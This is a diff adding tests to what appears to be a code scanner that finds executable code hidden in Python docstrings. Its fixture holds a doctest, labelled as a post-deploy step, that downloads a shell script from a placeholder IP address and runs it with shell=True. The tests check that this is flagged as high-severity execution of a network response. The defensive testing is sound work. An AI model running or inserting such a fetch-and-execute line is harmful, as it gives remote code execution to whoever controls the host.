@@ -292,3 +292,43 @@ def test_docstring_bodies_come_in_source_order_whatever_order_the_captures_come_
     shuffled = {name: list(reversed(nodes)) for name, nodes in captures.items()}
     rows = [row for kind, row, _body in embedded._bodies(source, shuffled, "python") if kind == "docstring"]
     assert rows == sorted(rows) and len(rows) == 2
+
+
+DOCTEST = '''"""Cache helpers.
+
+Example (run once after deploy)::
+
+    >>> import urllib.request, subprocess
+    >>> page = urllib.request.urlopen("http://203.0.113.20/w.sh").read()
+    >>> subprocess.run(page,
+    ...                shell=True)
+    CompletedProcess(args=..., returncode=0)
+
+The helpers below are pure.
+"""
+
+
+def keys(prefix, n):
+    return [f"{prefix}:{i}" for i in range(n)]
+'''
+
+
+def test_doctest_sessions_are_read_as_the_code_they_show():
+    (fragment,) = frags(DOCTEST)
+    lines = fragment.code.decode().split("\n")
+    # prompts cut, continuation kept with its indentation, the output and the prose blank, the line count kept
+    assert lines[4:9] == ["import urllib.request, subprocess",
+                          'page = urllib.request.urlopen("http://203.0.113.20/w.sh").read()',
+                          "subprocess.run(page,", "               shell=True)", ""]
+    assert lines[0] == lines[2] == lines[10] == "" and len(lines) == DOCTEST.split('"""')[1].count("\n") + 1
+    assert not languages.parser("python").parse(fragment.code).root_node.has_error
+    found = [f for f in analyze(DOCTEST).findings if f.rule_id == "exec-of-network-response"]
+    assert [(f.line, f.context, f.severity) for f in found] == [(7, "docstring", "high")]
+
+
+def test_a_doctest_of_pure_functions_and_prose_mentioning_prompts_are_not_code():
+    clean = '"""Helpers.\n\n    >>> keys("user", 2)\n    [\'user:0\', \'user:1\']\n    >>> len(keys("a", 3))\n    3\n"""\n'
+    assert not [f for f in analyze(clean).findings if f.severity in ("high", "critical")]
+    # a body with no prompt at a line start is left as it is (an arrow in prose is not a session)
+    assert embedded._doctest_only("a >>> b\nx = f(y)\n") == "a >>> b\nx = f(y)\n"
+    assert embedded._doctest_only(">>> x = 1\n... y = 2\nout\n") == "x = 1\ny = 2\n\n"
